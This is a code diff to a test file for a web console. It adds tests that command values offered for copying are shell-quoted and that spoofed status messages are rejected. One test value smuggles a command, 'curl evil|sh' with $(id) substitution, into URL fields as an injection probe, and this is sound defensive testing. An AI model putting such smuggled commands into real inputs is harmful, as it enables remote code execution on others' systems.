@@ -1,4 +1,5 @@
 /** The console without a browser: what it asks, with whose rights, and what it answers. */
+import { execFileSync } from 'node:child_process'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import type { Fetch } from '../../src/ui/api.ts'
 import { ASTRAY, type Lived, type UiWorld, consoleOf, createConsole, lived, openUiWorld, placesOf } from './world.ts'
@@ -51,6 +52,44 @@ describe('every page', () => {
     const html = await textOf(createConsole(world), 'profiles/odd')
     expect(html).not.toContain('<img')
     expect(html).toContain('&lt;img')
+  })
+})
+
+describe('what an address says', () => {
+  const REQUEST = 'req-00000000-0000-4000-8000-000000000000'
+  test('is no command: each value of a command to copy is quoted', async () => {
+    const evil = 'x;curl evil|sh $(id)`id` it\'s "so"'
+    const named = encodeURIComponent(evil)
+    for (const place of [
+      `instances/${named}`,
+      `hosts/${named}/do/retire`,
+      `profiles/${named}/do/delete`,
+      `explain?profile=${named}&host=${named}`,
+      `explain?draft=x&host=${named}`,
+      `capacity?resource_class=${named}&trait=${named}`,
+      `usage?project_id=${named}&from=${named}`,
+      `events?after=${named}&type=${named}&host=${named}`,
+    ]) {
+      const html = await textOf(createConsole(world), place)
+      const copied = [...html.matchAll(/data-copy="([^"]*)"/g)].map(([, text]) =>
+        text!.replaceAll('&quot;', '"').replaceAll('&amp;', '&'),
+      )
+      const script = `printf '%s\\0' ${copied.join(' ')}`
+      expect(execFileSync('bash', ['-c', script], { encoding: 'utf8' }).split('\0'), place).toContain(evil)
+    }
+  })
+  test('that something was done is believed only of an action and a request', async () => {
+    const ui = createConsole(world)
+    const done = async (place: string) => /<p class="done".*?<\/svg>(.*?)<\/p>/.exec(await textOf(ui, place))?.[1]
+    expect(await done(`hosts?done=restore&request=${REQUEST}`)).toBe(`Restore: recorded under ${REQUEST}.`)
+    for (const said of [
+      'done=All is lost, call 0900',
+      `done=explode&request=${REQUEST}`,
+      'done=restore',
+      'done=restore&request=req-1 and call 0900',
+      `done=release&request=${REQUEST}`,
+    ])
+      expect(await done(`hosts?${said}`), said).toBeUndefined()
   })
 })
 
@@ -204,7 +243,11 @@ describe('doing something', () => {
     const answer = await posted(createConsole(world), `handles/${seen.handle}/do/release`, { reason: 'looked at it' })
     expect([answer.status, await handleState()]).toEqual([303, 'free'])
     expect(decodeURIComponent(answer.headers.get('location') ?? '')).toMatch(
-      /^\.\.\/\.\.\/\.\.\/handles\/.*\?done=Release: recorded under req-/,
+      /^\.\.\/\.\.\/\.\.\/handles\/.*\?done=release&request=req-/,
+    )
+    const back = new URL(answer.headers.get('location')!, `http://h/ui/handles/${seen.handle}/do/release`)
+    expect(await textOf(createConsole(world), back.href.slice('http://h/ui/'.length))).toMatch(
+      /<p class="done" role="status">.*Release: recorded under req-[0-9a-f-]{36}\.<\/p>/,
     )
   })
   test('is refused when a page of another site, or nobody, says so', async () => {
